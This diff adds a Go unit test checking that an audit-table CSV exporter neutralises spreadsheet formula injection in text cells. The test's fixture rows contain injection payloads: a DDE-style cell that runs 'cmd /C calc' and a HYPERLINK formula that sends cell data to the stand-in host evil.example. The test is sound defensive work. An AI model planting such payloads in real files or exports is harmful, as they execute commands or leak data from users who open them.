@@ -569,3 +569,33 @@ func TestNumbersJSONCannotHold(t *testing.T) {
 		t.Errorf("NaN: %s %v", b.String(), err)
 	}
 }
+
+// TestCSVTextCellsNeverRunAsFormulas: a text cell a spreadsheet would read
+// as a formula (an engine's error, a worker address from a shared history)
+// gets a leading apostrophe in the CSV; typed cells, negative numbers
+// among them, are left alone, and JSON keeps the text as it was.
+func TestCSVTextCellsNeverRunAsFormulas(t *testing.T) {
+	tab := audittable.Table{
+		Columns: []audittable.Column{{Name: "worker_addr", Kind: audittable.KindText}, {Name: "last_error", Kind: audittable.KindText},
+			{Name: "delta", Kind: audittable.KindInt}},
+		Rows: [][]audittable.Cell{
+			{{Raw: "@SUM(1+1)*cmd|' /C calc'!A0"}, {Raw: `=HYPERLINK("http://evil.example/?"&A1,"click")`}, {Raw: "-5"}},
+			{{Raw: "+1"}, {Raw: "\t=1"}, {Raw: "7"}},
+			{{Raw: "10.0.0.7:30000"}, {Raw: "GET http://e/v1/loads: HTTP 500"}, {Raw: "0"}},
+		},
+	}
+	want := "worker_addr,last_error,delta\n" +
+		`'@SUM(1+1)*cmd|' /C calc'!A0,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-5` + "\n" +
+		"'+1,'\t=1,7\n" +
+		"10.0.0.7:30000,GET http://e/v1/loads: HTTP 500,0\n"
+	if got := csvText(t, tab); got != want {
+		t.Errorf("CSV:\n%s\nwant:\n%s", got, want)
+	}
+	var b bytes.Buffer
+	if err := tab.WriteJSON(&b); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(b.String(), `"last_error": "=HYPERLINK(`) {
+		t.Errorf("JSON changed the text:\n%s", b.String())
+	}
+}
